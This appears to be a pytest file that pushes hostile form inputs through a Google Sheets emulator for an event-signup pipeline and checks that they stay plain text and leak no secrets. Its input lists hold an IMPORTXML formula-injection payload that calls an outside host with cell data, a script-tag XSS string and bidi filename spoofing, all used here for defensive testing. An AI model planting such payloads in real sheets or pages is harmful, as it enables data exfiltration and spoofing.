"""Hostile texts of players on the way from a form to the spreadsheet, the articles and the mails: shown as they are,
run nowhere, and written once."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from google_game import GoogleGame, set_up
from sample_game import PLAYERS, SMALL

from connectors.xlsx_text import shown_text
from pipeline.archive import Archive
from pipeline.tabs import LINE
from tests.google_emulator.server import Emulator
from tests.google_emulator.world import World

AT = "2026-10-16 12:45:00"
FORMULAS = (
    '=IMPORTXML("http://example.com/"&A1,"//a")',
    "＝1+1",
    "+81-90-0000-0000",
    "-1+1",
    "@SUM(A1)",
    "\n=1+1",
    "\t=1+1",
    "\u00a0=1",
    "'0123",
)
TEXTS = (
    "0123",
    "1e3",
    "TRUE",
    "#REF!",
    "2026/10/16",
    "nan",
    "  a  ",
    "   ",
    "a\tb\r\nc\rd\ne",
    "nul\x00 bell\x07 escape\x1b[31m delete\x7f next\x85 separators\x1c\x1d\x1e",
    "bidi \u202egnp.exe\u202c \u2066x\u2069",
    "か\u3099き\u3099 zero\u200bwidth\ufeff 葛\U000e0100 👩‍👩‍👧‍👦",
    "lines\u2028and\u2029paragraphs",
    "no character\ufffe\uffff",
    "<script>alert(1)</script>&amp;",
    "_x0041_",
    "あ" * 50_001,
    "🗾" * 25_001,
)
EVERY = (*FORMULAS, *TEXTS)
WORD = "まるひみつのことば"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[GoogleGame]:
    """The small game at Google after a run with all of them, in every question that takes text."""
    with Emulator(world=World(seed=1)) as emulator:
        game = set_up(emulator, tmp_path_factory.mktemp("hostile"), SMALL)
        for number, text in enumerate(EVERY):
            second = f"{number:02d} 午後 GMT+9"
            game.sign_up(f"H-{number}", f"2026/10/16 0:31:{second}", "10月20日", note=text)
            own = {"正式呼称": text, "あいことば": text + WORD}
            game.replicate(
                f"R-{number}", f"2026/10/15 22:00:{number:02d}", "10月16日", text, {5: text}, **own
            )
            sent = {"タイムスタンプ": f"2026/10/16 0:32:{second}", "メールアドレス": "secret@example.jp"}
            game.send("inquiry", **sent, 回答ID=f"Q-{number}", 種別="質問", 件名=text, 内容=text)
        # The last one of the day decides, and its refusal is quoted in a mail.
        game.replicate("R-last", "2026/10/15 23:00:00", "10月16日", FORMULAS[0], {5: "1"})
        game.run(AT)
        yield game


def test_no_cell_is_a_formula(hostile: GoogleGame) -> None:
    found = [cell for book in (hostile.book_id, hostile.ids[LINE]) for cell in _cells(hostile, book)]
    assert len(found) > 1000
    assert [cell for cell in found if "formulaValue" in cell.get("userEnteredValue", {})] == []


def test_every_text_stands_in_the_sheet_as_a_text(hostile: GoogleGame) -> None:
    rows = hostile.table("マスイベ参加申込")
    for number, text in enumerate(EVERY):
        assert rows[hostile.entry(f"H-{number}")]["備考"] == shown_text(text), text[:20]


def test_every_text_is_archived_whole(hostile: GoogleGame) -> None:
    with Archive.open(hostile.archive_path) as archive:
        kept = archive.revisions()
    notes = {
        row["response_id"]: json.loads(row["answers"])["note"]
        for row in kept.loc[kept["form"].eq("signup")].to_dict("records")
        if str(row["response_id"]).startswith("H-")
    }
    assert [notes[f"H-{number}"] for number in range(len(EVERY))] == list(EVERY)


def test_a_second_run_writes_nothing(hostile: GoogleGame) -> None:
    hostile.forget_calls()
    report = hostile.run(AT)
    assert (report.sheets, report.files) == ((), ())
    assert [call for call in hostile.calls() if "batchUpdate" in call] == []


def test_no_secret_is_in_what_is_left(hostile: GoogleGame) -> None:
    """Neither words nor the key nor a token in articles, masters' files, spreadsheets or the archive."""
    key = json.loads((hostile.folder / "private/google.json").read_text("utf-8"))["private_key"]
    secrets = [WORD, *(word for _address, word in PLAYERS.values() if len(word) > 3), key.split("\n")[1]]
    cells = [_cells(hostile, book) for book in (hostile.book_id, hostile.ids[LINE])]
    texts = [
        json.dumps(cells, ensure_ascii=False),
        hostile.archive_path.read_bytes().decode("utf-8", "replace"),
        *(content.decode("utf-8", "replace") for content in hostile.files().values()),
    ]
    for secret in secrets:
        assert [secret in text for text in texts] == [False] * len(texts), secret
    public = {name: content for name, content in hostile.files().items() if name.startswith("public/")}
    assert public
    assert [name for name, content in public.items() if b"@example" in content] == []


def test_the_command_tells_no_secret(hostile: GoogleGame) -> None:
    """Nor an address of a player, nor what anybody wrote: in the log, on the terminal, on stderr."""
    done = hostile.saitei("run", "--as-of", AT, "--json", debug=True)
    assert done.returncode == 0, done.stderr
    told = done.stdout + done.stderr + hostile.log_path.read_text("utf-8")
    for secret in (
        WORD,
        "みかんばたけ",
        "secret@example.jp",
        "ponkan@example.jp",
        "IMPORTXML",
        "PRIVATE KEY",
        "ya29",
    ):
        assert secret not in told


def _cells(game: GoogleGame, book: str) -> list[dict[str, Any]]:
    params = {"spreadsheetId": book, "includeGridData": True}
    made = game.emulator.control("call", method="sheets.spreadsheets.get", params=params)
    return [
        cell
        for sheet in made["sheets"]
        for part in sheet.get("data", [])
        for row in part.get("rowData", [])
        for cell in row.get("values", [])
    ]
